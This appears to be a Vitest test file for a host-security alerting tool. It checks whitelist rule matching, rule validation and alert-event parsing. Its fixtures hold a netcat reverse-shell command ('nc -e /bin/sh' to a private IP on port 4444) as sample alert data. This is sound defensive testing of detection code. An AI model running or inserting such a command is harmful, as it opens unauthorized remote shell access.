import { describe, expect, it } from 'vitest';
import { parseAlertEvent } from './alert-types.js';
import { ruleMatches, validateRule, type WhitelistRule } from './whitelist-match.js';

const details = {
  cmdline: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'],
  exe: '/usr/bin/nc.traditional',
  processChain: [
    { pid: 10, comm: 'nc', cmdline: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] },
    { pid: 9, comm: 'cron', cmdline: ['/usr/sbin/cron', '-f'] },
  ],
  peer: { proto: 'tcp', remoteAddress: '10.0.0.1', remotePort: 4444, localPort: 5000 },
};
const rule = (r: Partial<WhitelistRule>): WhitelistRule => ({ ruleId: 'revshell.cmdline', field: 'cmdline', operate: 'contains', fieldValue: 'nc -e', scopeUuid: 'ALL', ...r });

describe('whitelist rules', () => {
  it('applies each operator to the chosen field', () => {
    const m = (r: Partial<WhitelistRule>) => ruleMatches(rule(r), 'host-1', 'revshell.cmdline', 'Reverse shell', details);
    expect(m({})).toBe(true);
    expect(m({ operate: 'notContains' })).toBe(false);
    expect(m({ field: 'peerIp', operate: 'strEqual', fieldValue: '10.0.0.1' })).toBe(true);
    expect(m({ field: 'peerIp', operate: 'strNotEqual', fieldValue: '10.0.0.1' })).toBe(false);
    expect(m({ field: 'peerPort', operate: 'regex', fieldValue: '^44\\d\\d$' })).toBe(true);
    expect(m({ field: 'parentCmdline', operate: 'contains', fieldValue: 'cron' })).toBe(true);
    expect(m({ field: 'exe', operate: 'regex', fieldValue: 'socat$' })).toBe(false);
  });

  it('is scoped to its rule id and host', () => {
    expect(ruleMatches(rule({}), 'host-1', 'mining.process-name', 'x', details)).toBe(false);
    expect(ruleMatches(rule({ scopeUuid: 'host-2' }), 'host-1', 'revshell.cmdline', 'x', details)).toBe(false);
    expect(ruleMatches(rule({ scopeUuid: 'host-1' }), 'host-1', 'revshell.cmdline', 'x', details)).toBe(true);
  });

  it('rejects empty, oversized and invalid regex patterns', () => {
    expect(validateRule({ operate: 'contains', fieldValue: '' })).not.toBeNull();
    expect(validateRule({ operate: 'contains', fieldValue: 'x'.repeat(513) })).not.toBeNull();
    expect(validateRule({ operate: 'regex', fieldValue: '(' })).toMatch(/invalid regex/);
    expect(validateRule({ operate: 'regex', fieldValue: 'a+' })).toBeNull();
  });
});

describe('parseAlertEvent', () => {
  it('keeps known fields, bounds lists and strings, rejects what is not an alert', () => {
    const e = parseAlertEvent({
      ruleId: 'revshell.stdio-socket',
      name: 'Reverse shell',
      level: 'serious',
      aggKey: 'k',
      details: { pid: 5, cmdline: Array.from({ length: 100 }, (_, i) => `a${i}`), evidence: 'e'.repeat(10_000), junk: { deep: true }, peer: { remoteAddress: '1.2.3.4', remotePort: 1 } },
    });
    expect(e?.details.cmdline).toHaveLength(32);
    expect(e?.details.evidence).toHaveLength(2048);
    expect(e?.details.peer).toEqual({ proto: '', remoteAddress: '1.2.3.4', remotePort: 1, localPort: 0 });
    expect(Object.keys(e?.details ?? {})).not.toContain('junk');
    expect(parseAlertEvent({ ruleId: 'r', name: 'n', level: 'critical', aggKey: 'k' })).toBeNull();
    expect(parseAlertEvent(null)).toBeNull();
    expect(parseAlertEvent([1, 2])).toBeNull();
  });
});
